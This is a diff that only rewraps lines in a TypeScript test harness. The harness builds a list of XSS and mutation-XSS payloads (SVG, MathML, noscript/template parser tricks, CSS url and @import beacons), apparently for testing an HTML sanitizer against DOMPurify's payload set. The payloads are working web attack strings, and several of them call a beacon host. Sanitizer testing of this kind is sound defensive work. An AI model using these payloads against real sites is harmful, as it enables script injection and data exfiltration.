@@ -21,29 +21,53 @@ function ownPayloads(beacon: string): Omit<Payload, 'id'>[] {
     ['img onerror + remote src', `<img src="${b('img')}" onerror="alert('img')">`],
     ['svg onload', `<svg onload="alert('svg-onload')"><rect width="10" height="10"/></svg>`],
     ['svg script', `<svg><script>alert('svg-script');fetch('${b('svg-script')}')</script></svg>`],
-    ['svg animate href', `<svg><a><animate attributeName="href" values="javascript:alert('animate')"/><text y="20">x</text></a></svg>`],
+    [
+      'svg animate href',
+      `<svg><a><animate attributeName="href" values="javascript:alert('animate')"/><text y="20">x</text></a></svg>`,
+    ],
     ['svg set onbegin', `<svg><set attributeName="x" onbegin="alert('set')"/></svg>`],
     ['svg use remote', `<svg><use href="${b('svg-use')}#x"/></svg>`],
     ['svg image remote', `<svg><image href="${b('svg-image')}" width="10" height="10"/></svg>`],
     ['svg foreignObject', `<svg><foreignObject><img src="${b('fo')}" onerror="alert('fo')"></foreignObject></svg>`],
     ['svg xlink javascript', `<svg><a xlink:href="javascript:alert('xlink')"><text y="20">click</text></a></svg>`],
     ['svg style import', `<svg><style>@import url("${b('svg-style')}");</style></svg>`],
-    ['svg feImage', `<svg><filter id="f"><feImage href="${b('feimage')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`],
+    [
+      'svg feImage',
+      `<svg><filter id="f"><feImage href="${b('feimage')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
+    ],
     ['mathml href', `<math href="javascript:alert('math-href')"><mi>x</mi></math>`],
     ['mathml mglyph mXSS', `<math><mtext><table><mglyph><style><img src="${b('mglyph')}" onerror="alert('mglyph')">`],
-    ['mathml annotation-xml', `<math><annotation-xml encoding="text/html"><img src="${b('anno')}" onerror="alert('anno')"></annotation-xml></math>`],
-    ['mathml maction', `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert('maction')">x</maction></math>`],
-    ['mXSS noscript title', `<noscript><p title="</noscript><img src='${b('noscript')}' onerror=alert('noscript')>"></p></noscript>`],
-    ['mXSS form nesting', `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert('form-nest') src='${b('formnest')}'>">`],
+    [
+      'mathml annotation-xml',
+      `<math><annotation-xml encoding="text/html"><img src="${b('anno')}" onerror="alert('anno')"></annotation-xml></math>`,
+    ],
+    [
+      'mathml maction',
+      `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert('maction')">x</maction></math>`,
+    ],
+    [
+      'mXSS noscript title',
+      `<noscript><p title="</noscript><img src='${b('noscript')}' onerror=alert('noscript')>"></p></noscript>`,
+    ],
+    [
+      'mXSS form nesting',
+      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert('form-nest') src='${b('formnest')}'>">`,
+    ],
     ['mXSS svg p style', `<svg></p><style><a id="</style><img src='${b('svgp')}' onerror=alert('svgp')>">`],
-    ['mXSS template comment', `<template><s><a id="--!><img src='${b('tpl')}' onerror=alert('tpl')>"></a></s></template>`],
+    [
+      'mXSS template comment',
+      `<template><s><a id="--!><img src='${b('tpl')}' onerror=alert('tpl')>"></a></s></template>`,
+    ],
     ['mXSS xmp', `<xmp><p title="</xmp><img src='${b('xmp')}' onerror=alert('xmp')>"></xmp>`],
     ['mXSS backtick attr', '<img src="x` `<script>alert(\'backtick\')</script>"` `>'],
     ['mXSS textarea', `<textarea></textarea><img src="${b('textarea')}" onerror="alert('textarea')"></textarea>`],
     ['css background url', `<div style="background:url(${b('css-bg')})">bg</div>`],
     ['css image-set', `<div style="background-image:image-set('${b('css-imgset')}' 1x)">set</div>`],
     ['css escaped url', `<div style="background:u\\72l(${b('css-esc')})">esc</div>`],
-    ['css style element attribute selector', `<style>input[value^="a"]{background:url(${b('css-attr')})}</style><input value="abc">`],
+    [
+      'css style element attribute selector',
+      `<style>input[value^="a"]{background:url(${b('css-attr')})}</style><input value="abc">`,
+    ],
     ['css font-face', `<style>@font-face{font-family:x;src:url(${b('css-font')})}p{font-family:x}</style><p>font</p>`],
     ['css link stylesheet', `<link rel="stylesheet" href="${b('link')}">`],
     ['css import in style', `<style>@import "${b('css-import')}";</style>`],
@@ -71,7 +95,10 @@ function ownPayloads(beacon: string): Omit<Payload, 'id'>[] {
 
 export function allPayloads(beacon: string): Payload[] {
   const third = JSON.parse(readFileSync(DOMPURIFY_PAYLOADS, 'utf8')) as { title: string; payload: string }[];
-  return [...third.map((p) => ({ title: p.title, html: p.payload })), ...ownPayloads(beacon)].map((p, id) => ({ id, ...p }));
+  return [...third.map((p) => ({ title: p.title, html: p.payload })), ...ownPayloads(beacon)].map((p, id) => ({
+    id,
+    ...p,
+  }));
 }
 
 const NONCE = 'hostile-page-nonce';
